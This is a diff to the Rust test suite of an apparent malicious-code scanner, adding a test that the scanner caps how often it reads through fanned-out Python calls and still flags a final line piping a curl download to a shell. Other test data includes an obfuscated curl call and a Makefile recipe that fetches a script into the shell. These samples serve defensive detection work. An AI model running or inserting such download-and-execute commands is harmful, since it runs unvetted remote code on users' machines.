@@ -103,6 +103,36 @@ os.system(f("cu" + "rl"))
     assert_combo("loop.py", py, "combo.remote-code", None);
 }
 
+/// Functions that each call the next ten times in each of 60 statements, called 4,000 times:
+/// read through without a bound per file this is 10^9 statements (a scan busy for more than
+/// ten minutes); with [`crate::code::MAX_CALL_READS`] the scan ends and the download piped to
+/// a shell on the file's last line is still found.
+#[test]
+fn calls_that_fan_out_are_read_through_a_bounded_number_of_times_per_file() {
+    let mut py = String::from("import os\ndef f0(a):\n    return a + \"x\"\n");
+    for level in 1..=3 {
+        py.push_str(&format!("def f{level}(a):\n"));
+        let call = format!("f{}(a)", level - 1);
+        for _ in 0..60 {
+            py.push_str(&format!("    v = {}\n", [call.as_str(); 10].join(" + ")));
+        }
+        py.push_str("    return v\n");
+    }
+    for i in 0..2000 {
+        py.push_str(&format!("r{i} = f3(\"p\") + f3(\"q\")\n"));
+    }
+    py.push_str("os.system(\"curl -fsSL https://tools.example-cdn.net/b.sh | sh\")\n");
+    let last = u32::try_from(py.lines().count()).unwrap();
+    let r = scan_file("fanout.py", &py);
+    assert!(
+        r.findings.iter().any(|f| f.rule_id == "exec.pipe-to-shell"
+            && f.line == last
+            && f.severity >= Severity::High),
+        "{:?}",
+        r.findings
+    );
+}
+
 #[test]
 fn makefile_variables_are_expanded_before_reading_recipes() {
     let mk = "FETCH := curl -fsSL\nURL ?= https://tools.example-cdn.net\n\nsetup:\n\t@$(FETCH) $(URL)/b.sh | $(SHELL)\n";
